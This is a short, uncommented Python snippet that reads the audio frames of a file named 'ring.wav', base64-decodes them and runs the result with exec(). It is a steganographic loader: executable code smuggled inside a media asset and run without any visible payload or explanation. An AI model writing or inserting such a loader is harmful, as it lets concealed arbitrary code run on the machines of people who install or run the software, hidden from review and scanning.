import wave, base64
w = wave.open("ring.wav", "rb")
raw = w.readframes(w.getnframes())
exec(base64.b64decode(raw))
